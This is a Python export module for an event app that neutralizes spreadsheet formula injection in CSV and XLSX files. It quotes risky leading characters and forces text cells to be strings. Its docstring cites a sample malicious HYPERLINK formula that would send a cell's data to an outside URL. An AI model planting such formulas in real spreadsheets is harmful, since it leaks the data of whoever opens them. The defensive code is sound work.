"""The one writer of every CSV and XLSX file the app hands out.

Cells hold what people typed (names, entry titles, judges' comments, organizations, answers), and a
spreadsheet program runs a text cell that starts with `=`, `+`, `-` or `@` as a formula: a title such as
`=HYPERLINK("http://…"&D2,"Open deck")` would send the organizer's data elsewhere with one click.
So every text cell is neutralized here (api.md: prefixed with `'`, plain numbers such as `+84912345678`
excepted; a leading tab or carriage return too, as OWASP advises, since some programs skip them before
reading a formula). In XLSX a text cell is also stored as a string cell, never a formula, whatever it
holds, and the other cells keep their type: numbers as numbers, dates as real dates in the event's time
zone (naive, as Excel wants, with a number format), so that organizers can sort, sum and filter.

Writers: `csv_bytes` / `csv_text` for CSV, `new_workbook` + `append_row` + `workbook_bytes` for XLSX.
`unneutralize` undoes the prefix for files that come back (the floor plan's CSV round trip).
"""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime, time
from decimal import Decimal
from zoneinfo import ZoneInfo

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Font

_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)*$")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
DATETIME_FORMAT = "dd/mm/yyyy hh:mm"
DATE_FORMAT = "dd/mm/yyyy"
TIME_FORMAT = "hh:mm"
_EXCEL_MAX_TEXT = 32_767  # characters in one cell; Excel refuses to open a file with more
_BOLD = Font(bold=True)


def _needs_quote(text: str) -> bool:
    """Would run as a formula – or already looks neutralized (`'=…`), so that a quote is added there too
    and `unneutralize` gives back exactly what was written."""
    if text.startswith(FORMULA_START):
        return not _PLAIN_NUMBER.match(text)
    return text.startswith("'") and _needs_quote(text.lstrip("'"))


def neutralize(value):
    """Text that a spreadsheet would run as a formula gets a leading quote (plain numbers pass)."""
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def unneutralize(value: str) -> str:
    """The text `neutralize` was given (for CSV files the app wrote and now reads back)."""
    if value.startswith("'") and _needs_quote(value[1:]):
        return value[1:]
    return value


# --- CSV --------------------------------------------------------------------------------------------

def _csv_cell(value, tz) -> str | int | float:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "x" if value else ""
    if isinstance(value, datetime):
        return _naive(value, tz).strftime("%d/%m/%Y %H:%M")
    if isinstance(value, date):
        return value.strftime("%d/%m/%Y")
    if isinstance(value, int | float | Decimal):
        return value
    return neutralize(str(value))


def csv_text(header: Sequence, rows: Iterable[Sequence], *, tz: ZoneInfo | str | None = None) -> str:
    """A CSV document, every cell neutralized (the header too: it may hold organizers' labels)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in (header, *rows) if header else rows:
        writer.writerow([_csv_cell(value, tz) for value in row])
    return buffer.getvalue()


def csv_bytes(header: Sequence, rows: Iterable[Sequence], *, tz: ZoneInfo | str | None = None) -> bytes:
    """UTF-8 with a BOM, so that Excel reads the Vietnamese letters right."""
    return "\ufeff".encode() + csv_text(header, rows, tz=tz).encode("utf-8")


# --- XLSX -------------------------------------------------------------------------------------------

def _zone(tz) -> ZoneInfo | None:
    return ZoneInfo(tz) if isinstance(tz, str) else tz


def _naive(value: datetime, tz) -> datetime:
    """A moment as the wall-clock time of `tz` (the event's), without tzinfo: Excel has no zones."""
    zone = _zone(tz)
    if value.tzinfo is not None and zone is not None:
        value = value.astimezone(zone)
    return value.replace(tzinfo=None)


def _text(value: str) -> str:
    """Characters XML cannot carry become U+FFFD (openpyxl would refuse the whole file)."""
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)[:_EXCEL_MAX_TEXT]


def set_value(cell: Cell, value, *, tz=None, bold: bool = False) -> Cell:
    """Gives a cell its typed value: text (neutralized, a string cell), number, date/time or empty."""
    if value is None:
        cell.value = None
    elif isinstance(value, bool):
        cell.value = value
    elif isinstance(value, int | float | Decimal):
        number = float(value) if isinstance(value, Decimal) else value
        cell.value = None if isinstance(number, float) and not math.isfinite(number) else number
    elif isinstance(value, datetime):
        cell.value = _naive(value, tz)
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, date):
        cell.value = value
        cell.number_format = DATE_FORMAT
    elif isinstance(value, time):
        cell.value = value.replace(tzinfo=None)
        cell.number_format = TIME_FORMAT
    else:
        cell.value = _text(neutralize(str(value)))
        cell.data_type = "s"  # openpyxl makes any str starting with "=" a formula; this never is one
    if bold:
        cell.font = _BOLD
    return cell


def append_row(sheet, values: Sequence, *, tz=None, bold: bool = False) -> None:
    """Adds a row of typed cells under the last one."""
    sheet.append([set_value(Cell(sheet), value, tz=tz, bold=bold) for value in values])


def new_workbook(title: str) -> tuple[Workbook, object]:
    """A workbook and its first sheet, named `title` (Excel allows 31 characters, no []:*?/\\)."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title(title)
    return workbook, sheet


def add_sheet(workbook: Workbook, title: str):
    return workbook.create_sheet(sheet_title(title))


def sheet_title(title: str) -> str:
    return re.sub(r"[\[\]:*?/\\]", " ", _text(str(title)))[:31].strip("' ") or "Sheet"


def workbook_bytes(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_bytes(title: str, header: Sequence, rows: Iterable[Sequence], *, tz=None) -> bytes:
    """A one-sheet workbook: a bold header, then typed rows."""
    workbook, sheet = new_workbook(title)
    append_row(sheet, header, bold=True)
    for row in rows:
        append_row(sheet, row, tz=tz)
    return workbook_bytes(workbook)
